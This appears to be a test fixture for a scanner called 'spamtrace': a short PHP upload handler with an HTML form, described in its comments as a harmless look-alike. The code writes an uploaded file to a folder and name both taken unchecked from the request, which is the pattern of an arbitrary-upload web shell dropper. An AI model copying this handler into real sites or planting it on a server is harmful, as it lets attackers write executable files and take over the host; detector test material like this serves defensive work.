<form enctype="multipart/form-data" method="post"><input name="d"><input type="file" name="f"></form>
<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// The folder and the name are copied into variables before the move.
if (isset($_FILES['f'])) {
    $dir = $_POST['d'];
    $name = $_FILES['f']['name'];
    $target = $dir . '/' . $name;
    move_uploaded_file($_FILES['f']['tmp_name'], $target);
}
